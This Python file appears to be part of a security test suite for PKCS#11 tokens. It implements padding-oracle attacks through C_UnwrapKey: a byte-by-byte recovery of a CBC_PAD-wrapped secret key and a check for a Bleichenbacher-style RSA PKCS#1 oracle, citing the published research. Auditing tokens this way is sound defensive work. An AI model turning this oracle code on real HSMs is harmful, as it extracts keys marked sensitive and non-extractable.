#!/usr/bin/env python3
"""C_UnwrapKey as an oracle: padding errors tell the plaintext of blobs that the key may not decrypt (Bardou,
Focardi, Kawamoto, Simionato, Steel and Tsay, 2012; Vaudenay, 2002)."""

import os

import attack
import p11
from cryptography.hazmat.primitives.asymmetric import padding, rsa

SECRET = {p11.CKA_CLASS: p11.CKO_SECRET_KEY, p11.CKA_KEY_TYPE: p11.CKK_GENERIC_SECRET, p11.CKA_TOKEN: False,
          p11.CKA_SENSITIVE: True, p11.CKA_EXTRACTABLE: False}


def the_padding_of_cbc(target):
    """The last bytes of a blob by CKM_AES_CBC_PAD, found by trying what unwraps."""
    unwrapping = target.key(WRAP=True, UNWRAP=True)
    closed = target.key(ENCRYPT=True, EXTRACTABLE=True)
    blob = target.session.wrap(p11.Mechanism(p11.CKM_AES_CBC_PAD, bytes(16)), unwrapping, closed)
    first = blob[:16]

    def opens(vector):
        return p11.answer(target.session.unwrap, p11.Mechanism(p11.CKM_AES_CBC_PAD, bytes(vector)), unwrapping,
                          first, SECRET) == 0

    found = bytearray(16)
    # A block that is all padding would make an empty key: the first byte is left to 256 trials of the key itself.
    for at in range(15, 0, -1):
        length = 16 - at
        vector = bytearray(16)
        for behind in range(at + 1, 16):
            vector[behind] = found[behind] ^ length
        for guess in range(256):
            vector[at] = guess ^ length
            if opens(vector):
                other = bytearray(vector)
                other[at - 1] ^= 0x80
                if at == 15 and not opens(other):
                    continue
                found[at] = guess
                break
        else:
            return False
    return any(target.is_value(closed, bytes([guess]) + found[1:]) for guess in range(256))


def the_padding_of_pkcs_1(target):
    """Whether a blob by CKM_RSA_PKCS is padded rightly: a million answers open any blob (Bleichenbacher, 1998)."""
    public = {p11.CKA_TOKEN: False, p11.CKA_MODULUS_BITS: 2048, p11.CKA_PUBLIC_EXPONENT: b"\1\0\1",
              p11.CKA_WRAP: True}
    private = {p11.CKA_TOKEN: False, p11.CKA_UNWRAP: True, p11.CKA_DECRYPT: False, p11.CKA_SIGN: False,
               p11.CKA_SENSITIVE: True, p11.CKA_EXTRACTABLE: False}
    public, private = target.session.generate_pair(
        p11.CKM_RSA_PKCS_KEY_PAIR_GEN, public, private)
    modulus = int.from_bytes(target.session.get(public, p11.CKA_MODULUS), "big")
    key = rsa.RSAPublicNumbers(65537, modulus).public_key()

    def answers(template, blobs):
        return {p11.answer(target.session.unwrap, p11.Mechanism(p11.CKM_RSA_PKCS), private, blob, template)
                for blob in blobs}

    good = [key.encrypt(os.urandom(16), padding.PKCS1v15()) for _ in range(4)]
    # A random number is padded rightly once in 65,536 times at most.
    bad = [(int.from_bytes(os.urandom(250), "big") % modulus).to_bytes(256, "big") for _ in range(16)]
    # Some modules want the length, others refuse it.
    for template in (SECRET | {p11.CKA_VALUE_LEN: 16}, SECRET):
        if answers(template, good) == {0}:
            return 0 not in answers(template, bad)
    raise AssertionError("no good blob is unwrapped")


attack.run(the_padding_of_cbc, the_padding_of_pkcs_1)
